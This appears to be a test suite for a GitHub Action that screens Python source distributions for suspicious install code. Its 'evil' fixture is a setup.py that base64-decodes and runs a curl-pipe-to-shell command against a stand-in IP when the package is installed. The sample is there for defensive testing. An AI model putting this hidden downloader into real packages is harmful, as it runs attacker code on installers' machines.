// The action where runs differ from a plain pull request: a runner without a job summary file, a
// merge queue (merge_group), a report-only run (fail-on: none) and the ten annotations a step shows,
// run as the runner runs it against a real index and the fake GitHub API on 127.0.0.1.

import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';

import { startIndexServer } from './helpers/index-server.js';
import { makeSdist, makeWheel } from './helpers/archives.js';
import { makeProject } from './helpers/project.js';
import { startGitHubApi, type GitHubApi } from './helpers/github-api.js';
import { actionRunner } from './helpers/action-runner.js';
import { tables } from './helpers/gfm.js';

const EVIL = `
import subprocess, base64
from setuptools import setup
cmd = base64.b64decode("Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcvYS5zaCB8IHNo").decode()
subprocess.Popen(cmd, shell=True)
setup(name="evil", version="1.0")
`;

function git(dir: string, ...args: string[]): string {
  return execFileSync('git', ['-c', 'user.name=Test', '-c', 'user.email=test@example.invalid', '-c', 'commit.gpgsign=false', '-c', 'init.defaultBranch=main', ...args], {
    cwd: dir,
    encoding: 'utf8',
  }).trim();
}

function checkout(base: Record<string, string>, head: Record<string, string>) {
  const project = makeProject(base);
  git(project.dir, 'init', '-q');
  git(project.dir, 'add', '-A');
  git(project.dir, 'commit', '-q', '-m', 'base');
  const baseSha = git(project.dir, 'rev-parse', 'HEAD');
  for (const [path, text] of Object.entries(head)) writeFileSync(join(project.dir, path), text);
  git(project.dir, 'add', '-A');
  git(project.dir, 'commit', '-q', '-m', 'head');
  return { ...project, baseSha, headSha: git(project.dir, 'rev-parse', 'HEAD') };
}

describe('the action beyond a plain pull request', () => {
  let index: Awaited<ReturnType<typeof startIndexServer>>;
  let api: GitHubApi | undefined;
  const runner = actionRunner();
  const env = (extra: Record<string, string> = {}) => ({
    GITHUB_REPOSITORY: 'octo/app',
    GITHUB_API_URL: api?.url ?? 'http://127.0.0.1:9',
    GITHUB_RUN_ID: '42',
    GITHUB_SERVER_URL: 'https://github.test',
    GITHUB_SHA: 'f'.repeat(40),
    ...extra,
  });
  const inputs = (extra: Record<string, string> = {}) => ({ 'index-url': index.indexUrl, 'github-token': 'test-token', cache: 'false', transitive: 'false', ...extra });
  const prEvent = (baseSha: string, headSha: string) => ({ pull_request: { number: 7, base: { sha: baseSha }, head: { sha: headSha } }, repository: { full_name: 'octo/app' } });

  beforeAll(async () => {
    const built = Object.fromEntries(Array.from({ length: 12 }, (_, i) => [`built-${i}`, [makeSdist(`built-${i}`, '1.0')]]));
    index = await startIndexServer({ projects: { good: [makeWheel('good', '1.0')], evil: [makeSdist('evil', '1.0', { 'setup.py': EVIL })], fresh: [makeSdist('fresh', '1.0')], ...built } });
  });
  afterAll(async () => {
    await index.close();
    runner.cleanup();
  });
  afterEach(async () => {
    await api?.close();
    api = undefined;
  });

  it('warns, instead of failing with an internal error, on a runner without a job summary file, and still comments', async () => {
    api = await startGitHubApi();
    const repo = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': 'good==1.0\nevil==1.0\n' });
    try {
      const r = await runner.runAction(inputs(), repo.dir, env({ GITHUB_EVENT_NAME: 'pull_request', GITHUB_STEP_SUMMARY: '' }), prEvent(repo.baseSha, repo.headSha));
      expect(r.stdout).not.toMatch(/internal error/);
      expect(r.stdout).toMatch(/::warning::sdist-guard: this runner has no job summary \(GITHUB_STEP_SUMMARY is not set\)/);
      expect(r.exitCode).toBe(1);
      expect(r.outputs.status).toBe('fail');
      expect(api.comments.get(7)).toHaveLength(1);
      expect(r.summary).toBe('');
    } finally {
      repo.cleanup();
    }
  });

  it('gates a merge group like the pull request, against the merge group base', async () => {
    api = await startGitHubApi();
    const repo = checkout({ 'requirements.txt': 'good==1.0\nevil==1.0\n' }, { 'requirements.txt': 'good==1.0\nevil==1.0\nfresh==1.0\n' });
    const mergeGroup = { merge_group: { base_sha: repo.baseSha, head_sha: repo.headSha, head_ref: 'refs/heads/gh-readonly-queue/main/pr-7-x' }, repository: { full_name: 'octo/app' } };
    try {
      const r = await runner.runAction(inputs(), repo.dir, env({ GITHUB_EVENT_NAME: 'merge_group', GITHUB_SHA: repo.headSha }), mergeGroup);
      // the pre-existing suspicious dependency passed on the pull request; it does not fail the queue
      expect(r.exitCode).toBe(0);
      expect(r.outputs.scope).toBe('changed');
      expect(r.stdout).toMatch(/gating on what the change adds or alters, compared with the base commit [0-9a-f]{7}/);
      expect(r.stdout).toMatch(/::warning title=sdist-guard%3A evil 1\.0 is suspicious \(pre-existing\)/);
      // no pull request, so no comment
      expect(api.requests.filter((q) => q.path.includes('/comments'))).toHaveLength(0);

      const added = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': 'good==1.0\nevil==1.0\n' });
      try {
        const bad = await runner.runAction(inputs(), added.dir, env({ GITHUB_EVENT_NAME: 'merge_group', GITHUB_SHA: added.headSha }), {
          merge_group: { base_sha: added.baseSha, head_sha: added.headSha },
        });
        expect(bad.exitCode).toBe(1);
        expect(bad.stdout).toMatch(/::error title=sdist-guard%3A evil 1\.0 is suspicious,file=requirements\.txt,line=2::/);
      } finally {
        added.cleanup();
      }
    } finally {
      repo.cleanup();
    }
  });

  it('comments on a report-only run (fail-on: none) when the pull request adds something suspicious, and passes', async () => {
    api = await startGitHubApi();
    const repo = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': 'good==1.0\nevil==1.0\n' });
    try {
      const r = await runner.runAction(inputs({ 'fail-on': 'none' }), repo.dir, env({ GITHUB_EVENT_NAME: 'pull_request' }), prEvent(repo.baseSha, repo.headSha));
      expect(r.exitCode).toBe(0);
      const body = api.comments.get(7)![0].body;
      expect(body).toMatch(/^## sdist-guard: 🛑 report only: 1 suspicious$/m);
      expect(tables(body)[0][1].slice(0, 3)).toEqual(['🛑 suspicious', 'evil', '1.0']);
      expect(body).toMatch(/\*\*What to do\*\*\n\n- 🛑 \*\*evil 1\.0\*\*: Do not merge or install it/);

      // nothing worth reporting: no comment
      const quiet = checkout({ 'requirements.txt': 'good==1.0\n' }, { 'requirements.txt': 'good==1.0\nfresh==1.0\n' });
      try {
        await api.close();
        api = await startGitHubApi();
        const q = await runner.runAction(inputs({ 'fail-on': 'none' }), quiet.dir, env({ GITHUB_EVENT_NAME: 'pull_request' }), prEvent(quiet.baseSha, quiet.headSha));
        expect(q.exitCode).toBe(0);
        expect(api.comments.get(7) ?? []).toHaveLength(0);
      } finally {
        quiet.cleanup();
      }
    } finally {
      repo.cleanup();
    }
  });

  it('leaves out what the exclude input names, with the configuration file\'s patterns', async () => {
    const project = makeProject({
      'requirements.txt': 'good==1.0\n',
      'tests/fixtures/a/requirements.txt': 'evil==1.0\n',
      'docs/requirements.txt': 'missing-doc==1.0\n',
      'sdist-guard.toml': 'exclude = "docs"\n',
    });
    try {
      const r = await runner.runAction(inputs({ exclude: 'tests/fixtures/**\n' }), project.dir, env({ GITHUB_EVENT_NAME: 'push' }));
      expect(r.exitCode).toBe(0);
      expect(r.stdout).toMatch(/sdist-guard: leaving out docs, tests\/fixtures\/\*\*/);
      expect(r.summary).toMatch(/<summary>1 manifest read<\/summary>\n\n- `requirements\.txt`/);
    } finally {
      project.cleanup();
    }
  });

  it('gives the step annotations to what the pull request adds before what was already there', async () => {
    api = await startGitHubApi({ forbid: { checks: true } });
    const old = Array.from({ length: 12 }, (_, i) => `built-${i}==1.0`).join('\n') + '\n';
    const repo = checkout({ 'requirements.txt': old }, { 'requirements.txt': `${old}fresh==1.0\n` });
    try {
      const r = await runner.runAction(inputs({ 'fail-on': 'suspicious,unresolved' }), repo.dir, env({ GITHUB_EVENT_NAME: 'pull_request' }), prEvent(repo.baseSha, repo.headSha));
      const warnings = r.stdout.split('\n').filter((l) => l.startsWith('::warning title=sdist-guard%3A'));
      expect(warnings).toHaveLength(10);
      expect(warnings[0]).toMatch(/^::warning title=sdist-guard%3A fresh 1\.0 is sdist,file=requirements\.txt,line=13::/);
      expect(warnings.slice(1).every((w) => /\(pre-existing\)/.test(w))).toBe(true);
      expect(r.summary).toMatch(/3 more are listed above and in the JSON report/);
    } finally {
      repo.cleanup();
    }
  });
});
